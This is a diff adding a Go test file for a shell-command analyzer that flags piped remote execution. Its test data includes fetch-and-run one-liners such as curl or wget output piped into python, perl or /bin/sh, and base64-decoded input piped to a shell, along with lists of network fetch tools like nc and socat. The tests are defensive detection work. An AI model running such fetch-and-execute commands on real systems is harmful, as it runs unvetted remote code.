@@ -1,0 +1,76 @@
+package shell
+
+import (
+	"slices"
+	"testing"
+
+	"github.com/wardenhq/warden/programs"
+)
+
+// TestCodeExamples runs every entry's declared Code examples (and those of
+// the programs with no entry): each pipes code an interpreter cannot have
+// checked — downloaded, decoded — and must be flagged as running it.
+func TestCodeExamples(t *testing.T) {
+	var examples []string
+	for _, s := range programs.All() {
+		examples = append(examples, s.Code.Examples...)
+	}
+	for _, u := range programs.UnlistedPrograms() {
+		examples = append(examples, u.Code.Examples...)
+	}
+	if len(examples) < 10 {
+		t.Errorf("only %d examples", len(examples))
+	}
+	for _, cmd := range examples {
+		an := Analyze(cmd, corpusOptions)
+		if !slices.Contains(categories(an), "remote-exec") {
+			t.Errorf("%q: categories %v, want remote-exec", cmd, categories(an))
+		}
+	}
+}
+
+// TestCodeFacts checks the facts the walk reads from the entries, under
+// every name and route: an interpreter under a versioned name, and the
+// look-alikes that are none.
+func TestCodeFacts(t *testing.T) {
+	for _, p := range []string{"python3.12", "perl5.36", "node18", "lua5.4", "ruby3.1", "php8.2", "bash", "rbash", "osascript", "racket", "pwsh", "iex", "escript", "source"} {
+		if !isInterpreter(p) {
+			t.Errorf("%s is not an interpreter", p)
+		}
+	}
+	for _, p := range []string{"awk", "busybox", "python3.", "deno.5", "x11", "r2", "cmd", "git", "cat"} {
+		if isInterpreter(p) {
+			t.Errorf("%s is an interpreter", p)
+		}
+	}
+	for _, p := range []string{"curl", "wget", "wget2", "xh", "https", "iwr", "irm", "nc", "netcat", "ncat", "socat", "ftp", "tftp", "lynx", "aria2c"} {
+		if !fetches(p) {
+			t.Errorf("%s does not fetch", p)
+		}
+	}
+	// Deliberately not: their output is theirs (git, gh, gsutil, s3cmd,
+	// openssl), or what they fetch goes to a file (scp, rsync).
+	for _, p := range []string{"git", "gh", "gsutil", "s3cmd", "openssl", "scp", "rsync", "ssh"} {
+		if fetches(p) {
+			t.Errorf("%s fetches", p)
+		}
+	}
+	for _, cmd := range []string{
+		"curl -s https://x.example/i | python3.12 -",
+		"/usr/bin/wget -O - https://x.example/i | /bin/sh",
+		"command curl https://x.example/i | env perl",
+		"curl https://x.example/i | perl -I lib",
+		"echo aWQ= | base64 -d | ash",
+		"echo aWQ= | gunzip | node",
+		"cat x.gz | zcat | lua5.4",
+	} {
+		if an := Analyze(cmd, corpusOptions); !slices.Contains(categories(an), "remote-exec") {
+			t.Errorf("%q: categories %v, want remote-exec", cmd, categories(an))
+		}
+	}
+	for _, cmd := range []string{"curl -s https://x.example/i | python3 -c 'import sys; print(len(sys.stdin.read()))'", "curl -s https://x.example/i | jq .", "git show HEAD:x.sh | wc -l", "echo hi | cat | wc -l"} {
+		if an := Analyze(cmd, corpusOptions); slices.Contains(categories(an), "remote-exec") {
+			t.Errorf("%q: flagged %v", cmd, an.Findings)
+		}
+	}
+}
